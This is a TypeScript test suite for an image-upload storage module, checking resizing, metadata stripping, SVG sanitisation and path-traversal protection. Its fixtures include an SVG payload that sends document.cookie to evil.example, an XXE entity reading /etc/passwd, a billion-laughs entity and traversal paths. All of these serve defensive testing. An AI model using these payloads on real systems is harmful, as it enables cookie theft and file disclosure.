// One suite for both storage drivers (ADR 0011): a temp folder, and a bucket on a local
// S3-compatible server.
import { mkdtemp, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { readAll } from "../../../server/storage/driver.js";
import { LIMITS, UploadError, keyFor } from "../../../server/storage/index.js";
import { createDriver, type StorageTarget } from "../../../server/storage/url.js";
import {
  DRIVER_KINDS,
  imagePoolForFile,
  listKeys,
  localS3ForFile,
  removeTarget,
  storageForEachTest,
} from "../../helpers/storage-drivers.js";

const localS3 = localS3ForFile();
const images = imagePoolForFile();

/** A solid-colour image in the given format, made by sharp so every input is a genuine file. */
function make(
  format: "png" | "jpeg" | "gif" | "webp",
  width: number,
  height: number,
): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 200, g: 40, b: 90 } } })
    .toFormat(format)
    .toBuffer();
}

async function expectUploadError(p: Promise<unknown>, code: string): Promise<void> {
  const err = await p.then(
    () => null,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(UploadError);
  expect((err as UploadError).code).toBe(code);
}

describe.each(DRIVER_KINDS)("storage on the %s driver", (kind) => {
  const fixture = storageForEachTest(kind, localS3, images);
  const { read } = fixture;

  /** Every stored key; used to prove failed saves leave nothing. */
  const listFiles = () => listKeys(fixture.driver);

  describe("saveImage", () => {
    for (const format of ["png", "jpeg", "gif", "webp"] as const) {
      it(`re-encodes ${format} as WebP with a thumbnail`, async () => {
        const stored = await fixture.saveImage(await make(format, 640, 480), "services");
        expect(stored.path).toMatch(/^\/storage\/services\/[0-9a-f]{32}\.webp$/);
        expect(stored.thumb).toBe(stored.path.replace(/\.webp$/, "-thumb.webp"));
        expect([stored.width, stored.height]).toEqual([640, 480]);

        const main = await sharp(await read(stored.path)).metadata();
        expect([main.format, main.width, main.height]).toEqual(["webp", 640, 480]);
        const thumb = await sharp(await read(stored.thumb)).metadata();
        expect([thumb.format, thumb.width, thumb.height]).toEqual(["webp", 400, 300]);
      });
    }

    it("scales a big image so the longest side is 2000 px, and a tall one by its height", async () => {
      const wide = await fixture.saveImage(await make("png", 3000, 1500), "projects");
      expect([wide.width, wide.height]).toEqual([2000, 1000]);
      expect((await sharp(await read(wide.thumb)).metadata()).width).toBe(400);

      const tall = await fixture.saveImage(await make("jpeg", 1000, 4000), "projects");
      expect([tall.width, tall.height]).toEqual([500, 2000]);
    });

    it("does not enlarge small images, thumbnails included", async () => {
      const small = await fixture.saveImage(await make("png", 120, 80), "faqs");
      expect([small.width, small.height]).toEqual([120, 80]);
      expect((await sharp(await read(small.thumb)).metadata()).width).toBe(120);
    });

    it("applies EXIF orientation and strips metadata", async () => {
      // 300x100 pixels tagged "rotate 90° clockwise" (orientation 6), with a camera comment.
      const input = await sharp({
        create: { width: 300, height: 100, channels: 3, background: "#0a0" },
      })
        .jpeg()
        .withMetadata({
          orientation: 6,
          exif: { IFD0: { Make: "SpyCam", Copyright: "secret gps" } },
        })
        .toBuffer();
      expect((await sharp(input).metadata()).exif).toBeDefined();

      const stored = await fixture.saveImage(input, "posts");
      expect([stored.width, stored.height]).toEqual([100, 300]);
      const out = await read(stored.path);
      const meta = await sharp(out).metadata();
      expect(meta.exif).toBeUndefined();
      expect(meta.orientation).toBeUndefined();
      expect(out.includes("SpyCam")).toBe(false);
    });

    it("rejects a text file named .png, and leaves no file behind", async () => {
      await expectUploadError(
        fixture.saveImage(Buffer.from("hello, I am not a picture\n"), "services"),
        "not_image",
      );
      await expectUploadError(fixture.saveImage(Buffer.alloc(0), "services"), "not_image");
      expect(await listFiles()).toEqual([]);
    });

    it("rejects an HTML page and a PDF, whatever they are called", async () => {
      await expectUploadError(
        fixture.saveImage(Buffer.from("<!doctype html><svg onload=alert(1)>"), "x"),
        "not_image",
      );
      await expectUploadError(
        fixture.saveImage(Buffer.from("%PDF-1.4\n%%EOF\n"), "x"),
        "not_image",
      );
    });

    it("rejects a file whose signature is PNG but whose body is garbage", async () => {
      const png = await make("png", 50, 50);
      const truncated = Buffer.concat([png.subarray(0, 40), Buffer.alloc(200, 7)]);
      await expectUploadError(fixture.saveImage(truncated, "services"), "not_image");
      expect(await listFiles()).toEqual([]);
    });

    it("rejects an oversized file as too_large before decoding it", async () => {
      const big = Buffer.alloc(LIMITS.imageBytes + 1, 0);
      (await make("png", 10, 10)).copy(big);
      await expectUploadError(fixture.saveImage(big, "services"), "too_large");
    });

    it("rejects folder names outside [a-z_-]", async () => {
      const png = await make("png", 10, 10);
      for (const folder of ["../etc", "Services", "a/b", "", "."]) {
        await expect(fixture.saveImage(png, folder)).rejects.toThrow(TypeError);
      }
      expect(await listFiles()).toEqual([]);
    });
  });

  describe("saveImage with SVG", () => {
    const hostile = `<?xml version="1.0"?>
  <!-- logo -->
  <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="60" onload="alert(document.cookie)">
    <script>fetch('https://evil.example/?c=' + document.cookie)</script>
    <a xlink:href="javascript:alert(1)"><rect width="120" height="60" fill="#36c" onclick="alert(2)"/></a>
  </svg>`;

    it("rasterises an SVG carrying script, handlers and javascript: URLs into harmless WebP/AVIF", async () => {
      const stored = await fixture.saveImage(Buffer.from(hostile), "categories");
      expect(stored.path).toMatch(/\.webp$/);
      // Rendered so its longest side is 2000 px, keeping the 2:1 aspect ratio.
      expect([stored.width, stored.height]).toEqual([2000, 1000]);
      for (const key of await listFiles()) {
        const bytes = await readAll((await fixture.driver.get(key))!.body);
        // sharp names AVIF by its container, HEIF.
        expect(["webp", "heif"]).toContain((await sharp(bytes).metadata()).format);
        const text = bytes.toString("latin1").toLowerCase();
        for (const needle of ["<script", "onload", "onclick", "javascript:", "<svg"])
          expect(text).not.toContain(needle);
      }
    });

    it("accepts an SVG with only a viewBox and renders real pixels", async () => {
      const svg =
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10" fill="#f00"/></svg>';
      const stored = await fixture.saveImage(Buffer.from(svg), "services");
      expect([stored.width, stored.height]).toEqual([2000, 2000]);
      const { data } = await sharp(await read(stored.thumb))
        .raw()
        .toBuffer({ resolveWithObject: true });
      expect([data[0], data[1], data[2]]).toEqual([255, 0, 0]);
    });

    it("refuses SVG with entity declarations (XXE, billion laughs) and non-SVG XML", async () => {
      const xxe =
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>';
      await expectUploadError(fixture.saveImage(Buffer.from(xxe), "services"), "not_image");
      // Internal entities are harmless one by one but nest into "billion laughs"; refused as well.
      const laughs =
        '<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&b;</text></svg>';
      await expectUploadError(fixture.saveImage(Buffer.from(laughs), "services"), "not_image");
      const rss = '<?xml version="1.0"?><rss><channel><svg/></channel></rss>';
      await expectUploadError(fixture.saveImage(Buffer.from(rss), "services"), "not_image");
      expect(await listFiles()).toEqual([]);
    });
  });

  describe("remove and open", () => {
    it("removes an image together with its thumbnail and variants, and ignores missing files", async () => {
      const a = await fixture.saveImage(await make("png", 50, 50), "services");
      const b = await fixture.saveImage(await make("png", 50, 50), "services");
      await fixture.storage.remove([
        a.path,
        "/storage/services/0123456789abcdef0123456789abcdef.webp",
        b.thumb,
      ]);
      // A thumbnail alone goes alone: b keeps its main picture and its AVIF.
      const stem = `uploads/services/${path.posix.basename(b.path, ".webp")}`;
      expect(await listFiles()).toEqual([`${stem}.avif`, `${stem}.webp`]);
      expect(await fixture.storage.open(a.path)).toBeNull();
      expect(await fixture.storage.open(b.thumb)).toBeNull();
    });

    it("cannot delete or address anything outside its two areas", async () => {
      const victim = await make("png", 5, 5);
      // Beside the areas in the same storage, and outside the storage altogether (a sibling
      // folder; a key of the bucket outside this storage's prefix).
      await fixture.driver.put("victim.webp", victim, "image/webp");
      await fixture.driver.put("uploads/victim.webp", victim, "image/webp");
      let outside: StorageTarget;
      let outsideName: string;
      if (fixture.target.kind === "file") {
        const folder = await mkdtemp(path.join(tmpdir(), "storage-outside-"));
        await writeFile(path.join(folder, "victim.webp"), victim);
        outside = { kind: "file", folder };
        outsideName = path.basename(folder);
      } else {
        outside = { ...fixture.target, prefix: `${fixture.target.prefix.slice(0, -1)}-outside/` };
        outsideName = outside.prefix.slice(0, -1);
      }
      const outsideDriver = await createDriver(outside);
      if (outside.kind === "s3") await outsideDriver.put("victim.webp", victim, "image/webp");
      // <area>/<folder>/../../../<outside>/victim.webp, in every spelling a caller might pass on.
      const attempts = [
        `/storage/services/../../../${outsideName}/victim.webp`,
        `/storage/../${outsideName}/victim.webp`,
        `/storage/services/..\\..\\victim.webp`,
        `/storage/./services/../../victim.webp`,
        "victim.webp",
        "/storage/victim.webp",
        "/storage/uploads/victim.webp/",
        "/storage/services/%2e%2e/%2e%2e/victim.webp",
        "/storage/",
        "/storage/services",
      ];
      try {
        await fixture.storage.remove(attempts);
        expect(await listKeys(fixture.driver)).toEqual(["uploads/victim.webp", "victim.webp"]);
        expect(await listKeys(outsideDriver)).toEqual(["victim.webp"]);
        for (const p of attempts) {
          expect(keyFor(p), p).toBeNull();
          expect(await fixture.storage.open(p), p).toBeNull();
        }
        expect(keyFor("/storage/services/abc.webp")).toBe("uploads/services/abc.webp");
        expect(keyFor("/storage/requests/abc.pdf")).toBe("private/requests/abc.pdf");
        expect(keyFor("/other/services/abc.webp")).toBeNull();
        expect(keyFor("/storage/a/b/c.webp")).toBeNull();
        // Temp files are dot-files, and dot segments never resolve.
        expect(keyFor("/storage/services/.abc.webp.123.tmp")).toBeNull();
        // The drivers refuse such keys too, whoever builds them.
        await expect(fixture.driver.put("../victim.webp", victim, "image/webp")).rejects.toThrow(
          TypeError,
        );
        await expect(fixture.driver.get("uploads/../../x")).rejects.toThrow(TypeError);
      } finally {
        outsideDriver.close();
        await removeTarget(outside);
      }
    });

    it("does not delete a folder when given its path", async () => {
      const a = await fixture.saveImage(await make("png", 20, 20), "services");
      await fixture.storage.remove(["/storage/services"]);
      // The main picture, its thumbnail and its AVIF (20 px wide: no smaller variant).
      expect(await listFiles()).toHaveLength(3);
      const kept = await fixture.storage.open(a.path);
      expect(kept?.size).toBeGreaterThan(0);
      kept?.body.destroy();
    });
  });
});
